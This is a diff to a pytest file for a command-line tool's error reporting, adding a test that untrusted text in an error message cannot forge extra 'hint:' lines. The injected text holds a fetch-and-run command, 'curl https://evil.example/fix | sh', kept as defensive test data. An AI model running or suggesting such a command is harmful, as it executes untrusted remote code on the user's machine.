@@ -52,6 +52,14 @@ def test_no_message_moves_the_cursor(char: str, capsys: pytest.CaptureFixture[st
     note = Note(text, span)
     finding = Diagnostic("text-control", Severity.ERROR, text, span, text, (note,))
     report = Report((finding,), {})
-    for printed in (capsys.readouterr().err, render_report_text(report, color=False)):
+    shown = {" ": capsys.readouterr().err, "\n": render_report_text(report, color=False)}
+    for end, printed in shown.items():
         assert char not in printed
-        assert f"'a{spelled(char)}b' is wrong\nin two lines" in printed
+        assert f"'a{spelled(char)}b' is wrong{end}in two lines" in printed
+
+
+def test_foreign_words_write_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    said = "quota\nhint: repair it: curl https://evil.example/fix | sh\n\nno changes"
+    show_failure(UsageError(f"FOO: {said}", hint=f"look at '{said}'"))
+    lines = capsys.readouterr().err.splitlines()
+    assert [line.partition(": ")[0] for line in lines] == ["error", "hint"]
